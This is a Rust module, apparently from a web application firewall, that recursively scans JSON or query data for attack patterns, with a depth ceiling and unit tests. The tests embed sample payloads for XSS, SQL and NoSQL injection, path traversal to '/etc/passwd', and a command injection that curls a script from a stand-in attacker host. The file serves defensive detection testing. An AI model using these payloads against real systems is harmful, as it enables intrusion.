//! Structured-Value Scanner
//!
//! Recursively inspects a nested key/value structure (parsed query string
//! or JSON body), applying the detector to every key and string value.
//! Traversal is iterative with an explicit work-stack and an explicit
//! per-frame depth, so adversarially deep nesting can never exhaust the
//! call stack; the depth ceiling is checked before a child frame is
//! pushed.

use serde_json::Value;

use crate::detection::{Detection, Location};
use crate::rules::Registry;

/// Hard ceiling on nesting depth
///
/// A denial-of-service defense, not a tuning knob: nodes below the ceiling
/// are never visited.
pub const MAX_SCAN_DEPTH: usize = 10;

enum Frame<'a> {
    Map(serde_json::map::Iter<'a>),
    Array(std::slice::Iter<'a, Value>),
}

/// Scan a parsed query/body tree, returning the first detection
///
/// Per mapping node, in iteration order: each key is tested against every
/// category, then a string value is tested, then a nested mapping is
/// descended into — short-circuiting the remaining keys on any hit.
/// Numbers, booleans and nulls are inert. Array elements are walked at
/// `depth + 1`; element indices are not treated as keys.
pub fn scan(registry: &Registry, node: &Value) -> Option<Detection> {
    let mut stack: Vec<(Frame<'_>, usize)> = Vec::new();

    match node {
        Value::Object(map) => stack.push((Frame::Map(map.iter()), 0)),
        Value::Array(items) => stack.push((Frame::Array(items.iter()), 0)),
        Value::String(s) => return detect_any(registry, s, Location::Value),
        _ => return None,
    }

    loop {
        let next = match stack.last_mut() {
            None => return None,
            Some((frame, depth)) => {
                let depth = *depth;
                match frame {
                    Frame::Map(entries) => entries
                        .next()
                        .map(|(key, value)| (Some(key.as_str()), value, depth)),
                    Frame::Array(items) => items.next().map(|value| (None, value, depth)),
                }
            }
        };

        match next {
            None => {
                stack.pop();
            }
            Some((key, value, depth)) => {
                if let Some(key) = key {
                    if let Some(detection) = detect_any(registry, key, Location::Key) {
                        return Some(detection);
                    }
                }
                match value {
                    Value::String(s) => {
                        if let Some(detection) = detect_any(registry, s, Location::Value) {
                            return Some(detection);
                        }
                    }
                    Value::Object(map) => {
                        if depth + 1 <= MAX_SCAN_DEPTH {
                            stack.push((Frame::Map(map.iter()), depth + 1));
                        }
                    }
                    Value::Array(items) => {
                        if depth + 1 <= MAX_SCAN_DEPTH {
                            stack.push((Frame::Array(items.iter()), depth + 1));
                        }
                    }
                    // Numbers, booleans, null: inert
                    _ => {}
                }
            }
        }
    }
}

fn detect_any(registry: &Registry, value: &str, location: Location) -> Option<Detection> {
    registry
        .categories()
        .iter()
        .find_map(|&category| registry.detect(value, category, location.clone()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::WafConfig;
    use crate::rules::AttackCategory;
    use serde_json::json;

    fn registry() -> Registry {
        Registry::load(&WafConfig::default()).unwrap()
    }

    /// Wrap `inner` in `levels` additional mapping layers
    fn nest(levels: usize, inner: Value) -> Value {
        let mut node = inner;
        for _ in 0..levels {
            node = json!({ "child": node });
        }
        node
    }

    #[test]
    fn test_detects_in_value() {
        let registry = registry();
        let node = json!({"comment": "<script>alert(1)</script>"});
        let detection = scan(&registry, &node).unwrap();
        assert_eq!(detection.category, AttackCategory::Xss);
        assert_eq!(detection.location, Location::Value);
    }

    #[test]
    fn test_detects_in_key() {
        let registry = registry();
        let node = json!({"$where": "1"});
        let detection = scan(&registry, &node).unwrap();
        assert_eq!(detection.category, AttackCategory::NosqlInjection);
        assert_eq!(detection.location, Location::Key);
    }

    #[test]
    fn test_inert_scalars() {
        let registry = registry();
        let node = json!({"count": 42, "active": true, "note": null});
        assert!(scan(&registry, &node).is_none());
    }

    #[test]
    fn test_nested_detection() {
        let registry = registry();
        let node = json!({"a": {"b": {"c": "' OR '1'='1"}}});
        let detection = scan(&registry, &node).unwrap();
        assert_eq!(detection.category, AttackCategory::SqlInjection);
    }

    #[test]
    fn test_array_elements_are_scanned() {
        let registry = registry();
        let node = json!({"tags": ["rust", "../../etc/passwd"]});
        let detection = scan(&registry, &node).unwrap();
        assert_eq!(detection.category, AttackCategory::PathTraversal);
    }

    #[test]
    fn test_depth_ceiling_enforced() {
        let registry = registry();
        let payload = json!({"p": "../../etc/passwd"});

        // Payload mapping at nesting level 10: still visited.
        let visible = nest(10, payload.clone());
        assert!(scan(&registry, &visible).is_some());

        // Level 11: pruned before any work.
        let hidden = nest(11, payload);
        assert!(scan(&registry, &hidden).is_none());
    }

    #[test]
    fn test_sibling_after_clean_subtree() {
        let registry = registry();
        // The nested clean subtree must not short-circuit the sibling that
        // follows it in iteration order.
        let node = json!({
            "clean": {"inner": "nothing to see"},
            "dirty": "&& curl http://evil.example/run.sh"
        });
        let detection = scan(&registry, &node).unwrap();
        assert_eq!(detection.category, AttackCategory::CommandInjection);
    }

    #[test]
    fn test_benign_tree() {
        let registry = registry();
        let node = json!({
            "title": "Reading list",
            "items": [
                {"name": "The Rust Book", "rating": 5},
                {"name": "Effective Testing", "rating": 4}
            ]
        });
        assert!(scan(&registry, &node).is_none());
    }
}
